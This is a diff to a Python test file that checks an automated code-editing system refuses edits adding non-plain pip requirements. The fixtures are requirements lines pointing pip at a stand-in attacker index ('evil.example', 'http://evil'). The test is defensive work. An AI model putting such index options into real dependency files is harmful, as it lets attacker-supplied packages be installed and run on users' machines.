@@ -14,8 +14,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from kernel import api
+from kernel.codebase.edits import sha256_of
 from kernel.core.attempts import Attempts
 from kernel.core.ledger import load_entries
 from kernel.core.run import Run
@@ -140,3 +142,35 @@ def test_a_requirement_that_is_not_plain_is_bad_input(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match=r"requirements.txt:2: '--index-url http://evil' is "
                                           r"an option.*keep only plain requirements"):
         repo_input(repo, KernelSettings())
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_an_edit_that_adds_a_requirement_that_is_not_plain_is_refused(
+        embedded_store: GraphStore, data_dir: Path, tmp_path: Path) -> None:
+    """The first attempt's edits add a requirements.txt pointing pip at another index:
+    refused with its reason (nothing installed, nothing run), and the retry resolves."""
+    script = yaml.safe_load((EXAMPLE / "script.yaml").read_text())
+    first = next(p for p in script["proposals"] if p["operation"] == "resolve")
+    evil = "tinypkg==1.0\n--extra-index-url https://evil.example/simple\n"
+    first["output"]["content"] = json.dumps([
+        *json.loads(first["output"]["content"]),
+        {"path": "requirements.txt", "kind": "replace", "before_sha256": None,
+         "after_sha256": sha256_of(evil.encode()), "content": evil}])
+    (tmp_path / "evil.yaml").write_text(yaml.safe_dump(script))
+    repo = Path(shutil.copytree(EXAMPLE / "repo", tmp_path / "repo"))
+    request = api.SolveRequest.checked(goal=GOAL, proposer="scripted",
+                                       script=tmp_path / "evil.yaml", repo=repo)
+    outcome = api.solve(embedded_store, request, store_settings(embedded_store, data_dir))
+    assert outcome.status == "resolved"
+    tries = Attempts(Run.load(embedded_store, outcome.run_id)).of_goal(outcome.root_id)
+    assert [t.verdict for t in tries] == ["UNSAT", "SAT"]
+    assert tries[0].verification is not None
+    refused = [c.detail for c in tries[0].verification.checks if not c.passed]
+    assert refused and all(d["failure_mode"] == "edit_refused" for d in refused)
+    assert refused[0]["edits_refused"] == [{
+        "path": "requirements.txt", "reason": "requirement_refused",
+        "detail": "requirements.txt:2: '--extra-index-url https://evil.example/simple' is an "
+                  "option, not a requirement (options such as -e, -r and --index-url are "
+                  "refused: the kernel chooses the index)"}]
+
